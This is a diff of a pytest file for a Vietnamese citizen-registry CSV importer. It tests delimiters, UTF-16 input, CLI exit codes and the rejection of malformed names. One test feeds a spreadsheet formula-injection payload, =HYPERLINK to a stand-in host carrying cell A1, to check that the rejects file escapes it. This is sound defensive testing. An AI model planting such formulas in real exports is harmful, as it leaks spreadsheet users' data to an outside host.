@@ -45,9 +45,9 @@ def person(**values: str) -> dict[str, str]:
 
 
 def write_csv(path: Path, rows: list[dict[str, str]], *, columns: tuple[str, ...] = COLUMNS,
-              encoding: str = "utf-8", newline: str = "\n") -> Path:
+              encoding: str = "utf-8", newline: str = "\n", delimiter: str = ",") -> Path:
     with path.open("w", encoding=encoding, newline="") as f:
-        writer = csv.writer(f, lineterminator=newline)
+        writer = csv.writer(f, lineterminator=newline, delimiter=delimiter)
         writer.writerow(columns)
         for row in rows:
             writer.writerow([row.get(c, "") for c in columns])
@@ -56,7 +56,7 @@ def write_csv(path: Path, rows: list[dict[str, str]], *, columns: tuple[str, ...
 
 def read_rejects(path: Path | None) -> dict[int, str]:
     assert path is not None
-    with path.open(encoding="utf-8") as f:
+    with path.open(encoding="utf-8-sig") as f:
         return {int(r["line"]): r["reason"] for r in csv.DictReader(f)}
 
 
@@ -140,6 +140,12 @@ BAD_ROWS = {
     25: (person(citizen_id="001090000022", full_name="\uac01" * 67), "longer than 200 characters without diacritics"),
     26: (person(citizen_id="1090000023"), "dropped the leading 00"),
     27: (person(citizen_id="001090000024", full_name="Đỗ\x1fVăn Khoa"), "invisible control character"),
+    # A name is letters and a few marks: "=2+3" would be a formula wherever the name is exported.
+    28: (person(citizen_id="001090000025", full_name="=2+3"), "full_name: a name cannot contain '=', '2' or '+'"),
+    29: (person(citizen_id="001090000026", mother_name="Lê Thị 2"), "mother_name: a name cannot contain '2'"),
+    30: (person(citizen_id="001090000027", spouse_name="Lê@Thị Hà"), "spouse_name: a name cannot contain '@'"),
+    31: (person(citizen_id="001090000028", father_name="-Đỗ Văn Cha"), "father_name: a name begins with a letter"),
+    32: (person(citizen_id="001090000029", other_names="Tý/Tèo"), "other_names: a name cannot contain '/'"),
 }
 
 
@@ -153,9 +159,31 @@ def test_every_bad_row_is_rejected_with_its_line_and_a_reason_and_the_rest_impor
         assert words in rejects[line], (line, rejects[line])
     assert (result.rows_read, result.imported, result.rejected) == (len(rows), 2, len(BAD_ROWS))
     assert counts()["citizen"] == 2
-    with (tmp_path / "rejects.csv").open(encoding="utf-8") as f:
+    with (tmp_path / "rejects.csv").open(encoding="utf-8-sig") as f:
         first = next(csv.DictReader(f))
     assert first["citizen_id"] == "01090000002" and first["full_name"] == "Đỗ Văn Khoa"  # the row, to fix
+
+
+def test_the_rejects_file_escapes_formulas_and_a_corrected_one_imports_them_back(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    from idsvc.csvsafe import FORMULA_STARTS
+
+    rows = [person(citizen_id="001090000001", full_name='=HYPERLINK("http://x.example/?"&A1,"Mở")'),
+            person(citizen_id="001090000002", sex="X", phone="+84 912 345 678", religion="-", household_id="@H1",
+                   full_name="Y-Moan Ê-đê")]
+    first = run(write_csv(tmp_path / "people.csv", rows), tmp_path)
+    assert (first.imported, first.rejected) == (0, 2)
+    with first.rejects_path.open(encoding="utf-8-sig", newline="") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
+    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"Mở\")" in cells and "'+84 912 345 678" in cells
+    assert "'-" in cells and "'@H1" in cells
+    corrected = tmp_path / "corrected.csv"
+    corrected.write_text(first.rejects_path.read_text(encoding="utf-8-sig").replace(",X,", ",M,"), encoding="utf-8")
+    again = importer.import_file(corrected, actor="test", rejects_path=tmp_path / "rejects-2.csv")
+    assert (again.imported, again.rejected) == (1, 1)  # the formula is still no name
+    assert "full_name: a name cannot contain '='" in read_rejects(again.rejects_path)[2]
+    fixed = service.get_citizen_by_number("001090000002")
+    assert (fixed.phone, fixed.religion, fixed.household.number) == ("+84912345678", "-", "@H1")
 
 
 def test_duplicates_across_chunks_and_against_the_registry(app_ctx, tmp_path, create_citizen) -> None:  # type: ignore[no-untyped-def]
@@ -193,6 +221,52 @@ def test_hygiene_bom_nfd_whitespace_crlf_and_spreadsheet_codes(app_ctx, tmp_path
     assert [c.id_number for c in service.find_by_name("nguyen thi dao")] == ["001190000001"]
 
 
+def test_a_semicolon_separated_file_imports(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    rows = [person(place_of_birth="Hà Nội, Việt Nam"), person(citizen_id="001090000002", hometown="Huế; Đà Nẵng"),
+            person(citizen_id="001090000003", sex="X")]
+    path = write_csv(tmp_path / "excel-vi.csv", rows, delimiter=";", encoding="utf-8-sig", newline="\r\n")
+    assert path.read_text(encoding="utf-8-sig").splitlines()[0] == ";".join(COLUMNS)
+    with path.open("a", encoding="utf-8") as f:
+        f.write("001090000004;Only;three\r\n")
+    result = run(path, tmp_path)
+    assert (result.imported, result.rejected) == (2, 2)
+    assert service.get_citizen_by_number("001090000001").place_of_birth == "Hà Nội, Việt Nam"
+    assert service.get_citizen_by_number("001090000002").hometown == "Huế; Đà Nẵng"
+    rejects = read_rejects(result.rejects_path)
+    assert "not M or F" in rejects[4]
+    assert "a semicolon inside a value needs double quotes" in rejects[5]
+
+
+@pytest.mark.parametrize("reading_process", [False, True], ids=["in-process", "reading-process"])
+@pytest.mark.parametrize(("encoding", "bom"), [("utf-16-le", "\ufeff"), ("utf-16-be", "\ufeff")])
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_a_utf16_file_with_its_byte_order_mark_imports(app_ctx, tmp_path, monkeypatch, encoding, bom, fmt,
+                                                       reading_process) -> None:  # type: ignore[no-untyped-def]
+    if reading_process:
+        monkeypatch.setattr(importer, "PARALLEL_FROM_LINES", 1)
+    rows = [person(full_name="Nguyễn Thị Đào"), person(citizen_id="001090000002", full_name="Lê Văn 𠀋"),
+            person(citizen_id="001090000003", sex="X")]
+    path = tmp_path / f"unicode.{fmt}"
+    if fmt == "csv":
+        text = "".join(",".join(row) + "\r\n" for row in [COLUMNS, *([r[c] for c in COLUMNS] for r in rows)])
+    else:
+        text = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows)
+    path.write_bytes((bom + text).encode(encoding))
+    assert reader.inspect(path).lines == len(rows) + (fmt == "csv")
+    result = run(path, tmp_path)
+    assert (result.imported, result.rejected) == (2, 1), read_rejects(result.rejects_path)
+    assert service.get_citizen_by_number("001090000001").full_name == "Nguyễn Thị Đào"
+    assert service.get_citizen_by_number("001090000002").full_name == "Lê Văn 𠀋"  # a surrogate pair in UTF-16
+    assert "not M or F" in read_rejects(result.rejects_path)[3 + (fmt == "csv")]
+
+
+def test_a_broken_utf16_file_is_a_clear_error(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    path = tmp_path / "broken.csv"
+    path.write_bytes(("\ufeff" + ",".join(COLUMNS) + "\n").encode("utf-16-le") + b"\x00\xd8A\x00")  # a lone half
+    with pytest.raises(reader.UnreadableFile, match="begins as UTF-16 text but is not: line 2"):
+        run(path, tmp_path)
+
+
 def test_a_file_that_is_not_utf8_is_a_clear_error_and_writes_nothing(app_ctx, tmp_path) -> None:  # type: ignore[no-untyped-def]
     path = write_csv(tmp_path / "legacy.csv", [person(full_name="Do Van Khoa"),
                                                          person(citizen_id="001090000002", full_name="Lê Văn Hà")],
@@ -220,8 +294,10 @@ def test_a_corrected_rejects_file_imports_as_it_is(app_ctx, tmp_path) -> None:  
     path = write_csv(tmp_path / "people.csv", [person(), person(citizen_id="001090000002", sex="X")])
     first = run(path, tmp_path)
     assert (first.imported, first.rejected) == (1, 1)
+    assert first.rejects_path.read_bytes().startswith(b"\xef\xbb\xbfline,reason,citizen_id,")  # UTF-8 to spreadsheets
     corrected = tmp_path / "corrected.csv"
-    corrected.write_text(first.rejects_path.read_text(encoding="utf-8").replace(",X,", ",M,"), encoding="utf-8")
+    # As a spreadsheet saves it: the byte-order mark kept, lines ending in CR LF.
+    corrected.write_bytes(first.rejects_path.read_bytes().replace(b",X,", b",M,").replace(b"\n", b"\r\n"))
     again = importer.import_file(corrected, actor="test", rejects_path=tmp_path / "rejects-2.csv")
     assert (again.imported, again.rejected) == (1, 0)
     assert service.get_citizen_by_number("001090000002").sex == "M"
@@ -274,26 +350,90 @@ def test_cli_import_prints_a_summary_and_show_prints_the_record(runner, tmp_path
     assert "Võ Thị Kim Phượng" in shown.output and "1972-11 (month)" in shown.output
     assert "27139 Phường Xuân Hòa" in shown.output
     missing = runner.invoke(args=["registry", "show", "001099999999"])
-    assert missing.exit_code == 1 and "No citizen holds ID number *********999" in missing.output
+    assert missing.exit_code == 1 and "no citizen with this number (001099999999)" in missing.output
+
+
+def test_cli_show_names_a_malformed_number_the_source_and_the_countries_in_aligned_columns(runner, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    assert runner.invoke(args=["registry", "import", str(DEMO), "--rejects", str(tmp_path / "r.csv")]).exit_code == 0
+    for typed, reason in [("01080012345", "an ID number has exactly 12 digits; this one has 11"),
+                          ("0010800123 45", "an ID number has only the digits 0-9"),
+                          ("003080012345", "the first three digits 003 are neither a province code")]:
+        out = runner.invoke(args=["registry", "show", typed])
+        assert out.exit_code == 1 and f"Error: not a valid ID number: {reason}" in out.output, out.output
+        assert "*" not in out.output
+
+    shown = runner.invoke(args=["registry", "show", "232301000777"])  # born abroad, registered in Japan
+    assert shown.exit_code == 0, shown.output
+    lines = shown.output.splitlines()
+    labels = [label for label, _ in service_rows(runner, "232301000777")]
+    width = max(map(len, labels))
+    for line, label in zip(lines, labels, strict=False):
+        assert line.startswith(label) and line[width:width + 2] == "  " and line[width + 2] != " ", line
+    record = dict((line[:width].rstrip(), line[width + 2:]) for line in lines[:len(labels)])
+    assert record["Nơi đăng ký khai sinh / Birth registered"] == "abroad: 232 (Japan / Nhật Bản)"
+    assert record["Quốc tịch / Nationality"] == "VN (Viet Nam / Việt Nam)"
+    assert re.fullmatch(r"import of demo_citizens\.csv, line 10, on \d{4}-\d\d-\d\d \d\d:\d\d UTC by system:cli "
+                        r"\(batch \d+\)", record["Nguồn / Source"]), record["Nguồn / Source"]
+
+    with runner.app.app_context():
+        child = service.register_birth(actor="staff:clerk-1", reason="Birth certificate 9/2026",
+                                       full_name="Lê Minh Khôi", date_of_birth="2026-01-02", sex="M",
+                                       registered_abroad_code="232")
+        service.update_citizen(child, {"nationality": "jp"}, actor="staff:clerk-1", reason="Nationality decision 3")
+        number = child.id_number
+        db.session().commit()
+    born = runner.invoke(args=["registry", "show", number]).output
+    assert "abroad: 232 (Japan / Nhật Bản)" in born and "JP (Japan / Nhật Bản)" in born
+    assert re.search(r"Nguồn / Source +birth_registration on \d{4}-\d\d-\d\d \d\d:\d\d UTC by staff:clerk-1: "
+                     r"Birth certificate 9/2026", born), born
+
+
+def service_rows(runner, number: str) -> list[tuple[str, str]]:  # type: ignore[no-untyped-def]
+    with runner.app.app_context():
+        return service.describe(service.get_citizen_by_number(number))
+
+
+def test_the_country_table_names_every_code_of_birth_registration_abroad() -> None:
+    from idsvc.registry import countries
+    from idsvc.registry import idnumbers
+
+    assert set(countries.ABROAD) == idnumbers.ABROAD_CODES
+    assert countries.abroad("232") == "232 (Japan / Nhật Bản)" and countries.abroad("999") == "999"
+    assert countries.nationality("FR") == "FR (France / Pháp)" and countries.nationality("XK") == "XK"
+
+
+def test_cli_import_exit_status_tells_all_imported_from_some_rejected_from_refused(runner, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    good = write_csv(tmp_path / "good.csv", [person()])
+    some_bad = write_csv(tmp_path / "some-bad.csv", [person(citizen_id="001090000002"),
+                                                     person(citizen_id="001090000003", sex="X")])
+    bad_header = write_csv(tmp_path / "bad-header.csv", [person()], columns=("citizen_id", "full_name"))
+    args = ["--rejects", str(tmp_path / "r.csv")]
+    assert runner.invoke(args=["registry", "import", str(good), *args]).exit_code == 0
+    assert runner.invoke(args=["registry", "import", str(good), *args]).exit_code == 0  # already present
+    rejected = runner.invoke(args=["registry", "import", str(some_bad), *args])
+    assert rejected.exit_code == 1 and "1 imported, 0 already in the registry, 1 rejected" in rejected.output
+    assert "rejected rows and the reasons" in rejected.output
+    refused = runner.invoke(args=["registry", "import", str(bad_header), *args])
+    assert refused.exit_code == 2 and "the header lacks the columns" in refused.output
 
 
 def test_cli_import_of_an_unreadable_file_is_an_error_message_not_a_traceback(runner, tmp_path) -> None:  # type: ignore[no-untyped-def]
     bad = tmp_path / "latin1.csv"
     bad.write_bytes(b"citizen_id,full_name\n001090000001,Nguy\xe9n\n")
     out = runner.invoke(args=["registry", "import", str(bad)])
-    assert out.exit_code == 1 and "Traceback" not in out.output
+    assert out.exit_code == 2 and "Traceback" not in out.output
     assert "not UTF-8 text: line 2 has the byte 0xe9" in out.output
     gone = runner.invoke(args=["registry", "import", str(tmp_path / "nope.csv")])
-    assert gone.exit_code == 1 and "does not exist" in gone.output
+    assert gone.exit_code == 2 and "does not exist" in gone.output
     nowhere = runner.invoke(args=["registry", "import", str(DEMO), "--rejects", str(tmp_path / "no" / "r.csv")])
-    assert nowhere.exit_code == 1 and "rejects file cannot be written" in nowhere.output
+    assert nowhere.exit_code == 2 and "rejects file cannot be written" in nowhere.output
     assert "Traceback" not in nowhere.output
 
 
 def test_an_actor_name_the_audit_trail_cannot_keep_is_refused_before_anything_is_written(runner, tmp_path) -> None:  # type: ignore[no-untyped-def]
     out = runner.invoke(args=["registry", "import", str(DEMO), "--actor", "x" * 101, "--rejects",
                               str(tmp_path / "r.csv")])
-    assert out.exit_code == 1 and "the actor (who runs the import) is 1 to 100 characters" in out.output
+    assert out.exit_code == 2 and "the actor (who runs the import) is 1 to 100 characters" in out.output
     assert runner.invoke(args=["registry", "show", "079172000666"]).exit_code == 1  # nobody imported
 
 
@@ -333,13 +473,13 @@ def test_the_rejects_file_never_replaces_the_input_nor_an_earlier_list_of_a_refu
     people = tmp_path / "people.csv"
     people.write_bytes(DEMO.read_bytes())
     same = runner.invoke(args=["registry", "import", str(people), "--rejects", str(tmp_path / "." / "people.csv")])
-    assert same.exit_code == 1 and "is the file being imported" in same.output
+    assert same.exit_code == 2 and "is the file being imported" in same.output
     assert people.read_bytes() == DEMO.read_bytes()
     assert runner.invoke(args=["registry", "import", str(people)]).exit_code == 0
     earlier = tmp_path / "people.csv.rejects.csv"
     earlier.write_text("line,reason\n3,kept from an earlier run\n")
     refused = runner.invoke(args=["registry", "import", str(people), "--initial-load"])
-    assert refused.exit_code == 1 and "An initial load is for an empty registry" in refused.output
+    assert refused.exit_code == 2 and "An initial load is for an empty registry" in refused.output
     assert earlier.read_text() == "line,reason\n3,kept from an earlier run\n"
 
 
@@ -423,14 +563,13 @@ def test_imported_values_keep_their_types_and_backslashes(app_ctx, tmp_path) -> 
     rows = [person(citizen_id=f"001090000{n:03d}", household_id=f"H{n % 2}", relationship_to_head="head" if n < 2
                    else "child", father_name="Đỗ Văn Cha" if n % 2 else "", date_of_birth="1990" if n == 3 else
                    "1990-06-01") for n in range(6)]
-    rows.append(person(citizen_id="001090000099", full_name="Đỗ Văn \\N", other_names="C:\\dir",
-                       father_id="001060000001",
-                       father_name="A\\B"))
+    rows.append(person(citizen_id="001090000099", place_of_birth="Đỗ Văn \\N", hometown="C:\\dir",
+                       father_id="001060000001", father_name="Đỗ Văn Cha", household_id="H\\9"))
     result = run(write_csv(tmp_path / "people.csv", rows), tmp_path, chunk_size=3)  # the odd row alone in its chunk
     assert result.imported == len(rows), read_rejects(result.rejects_path)
     odd = service.get_citizen_by_number("001090000099")
-    assert (odd.full_name, odd.other_names, odd.household_id) == ("Đỗ Văn \\N", "C:\\dir", None)
-    assert [(r.kind, r.id_number, r.full_name) for r in odd.relatives] == [("father", "001060000001", "A\\B")]
+    assert (odd.place_of_birth, odd.hometown, odd.household.number) == ("Đỗ Văn \\N", "C:\\dir", "H\\9")
+    assert [(r.kind, r.id_number, r.full_name) for r in odd.relatives] == [("father", "001060000001", "Đỗ Văn Cha")]
     year_only = service.get_citizen_by_number("001090000003")
     assert (year_only.birth_year, year_only.birth_month, year_only.birth_day) == (1990, None, None)
     assert year_only.household is not None and year_only.household.head is not None
